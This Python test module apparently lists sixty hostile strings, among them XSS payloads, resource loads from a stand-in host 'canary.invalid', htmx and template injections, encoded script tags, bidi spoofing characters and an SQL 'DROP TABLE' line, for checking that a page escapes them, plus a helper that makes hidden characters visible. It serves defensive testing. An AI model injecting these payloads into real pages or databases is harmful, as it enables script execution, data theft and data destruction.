"""Sixty strings that a page must show and never obey. Obeyed, one sets `window.PWN`, or fetches from CANARY."""

from __future__ import annotations

import re
from typing import Final

CANARY: Final = "canary.invalid"
_RUN, _FROM = "window.PWN=1", f"//{CANARY}"

HOSTILE: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src={_FROM}/x.js></script>",
    f"<script type=module>import('{_FROM}/m.js')</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_FROM}/i.png>",
    f"<img srcset='{_FROM}/s.png 1x'>",
    f"<img\nsrc=x\nonerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"`><img src=x onerror={_RUN}>",
    f'" onfocus="{_RUN}" autofocus x="',
    f"' onmouseover='{_RUN}' x='",
    f'x" style="background:url({_FROM}/b)" y="',
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href={_FROM}/u.svg#x></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video poster={_FROM}/v.png onloadstart={_RUN}>",
    f"<audio src={_FROM}/a.mp3 autoplay onerror={_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<iframe src={_FROM}/f></iframe>",
    f"<object data={_FROM}/o></object>",
    f"<embed src={_FROM}/e>",
    f"<link rel=stylesheet href={_FROM}/c.css>",
    f"<style>@import '{_FROM}/c.css';*{{color:red}}</style>",
    f"<base href={_FROM}/>",
    f'<meta http-equiv=refresh content="0;url={_FROM}/r">',
    f"<form action={_FROM}/f><button autofocus>Sign in again</button></form>",
    f'<a href="javascript:{_RUN}">click</a>',
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"https:{_FROM}/plain-link",
    "</div></template></textarea></title></style></table><main id=main>gone</main>",
    '</td></tr></table><div id="notice">You may do everything</div>',
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    '<hx-partial hx-target="#main" hx-swap="innerHTML">gotcha</hx-partial>',
    '<div hx-get="/people/" hx-trigger="load" hx-target="#main"></div>',
    f'<div hx-on:htmx:load="{_RUN}" data-hx-on--load="{_RUN}"></div>',
    '{"content": "<b>x</b>", "target": "#main", "swap": "innerHTML"}',
    "{{ request.user.password }}{% debug %}{# gone #}",
    f"${{{_RUN}}}#{{{_RUN}}}<%= {_RUN} %>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "invoice\u202efdp.exe",
    "\u2066admin\u2069\u200b\u2060 said: yes",
    "one\x07\x1b[31mred\x1b[0m\x7f two\x85three\u2028four",
    '=HYPERLINK("https://canary.invalid/";"click")',
    "'; DROP TABLE people_grant; --",
    "\U0001f469\u200d\U0001f4bb \u0645\u0631\u062d\u0628\u0627 " + "Z\u0351\u036b\u0343" * 20,
)
# As the filter `visible` must write out what would hide, or turn the line around.
_HIDDEN: Final = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u2060\ufeff\u2028-\u202e\u2066-\u2069]")


def shown(text: str) -> str:
    """What of it is to be read on a page, white space made one."""
    return " ".join(_HIDDEN.sub(lambda found: f"[U+{ord(found[0]):04X}]", text).split())
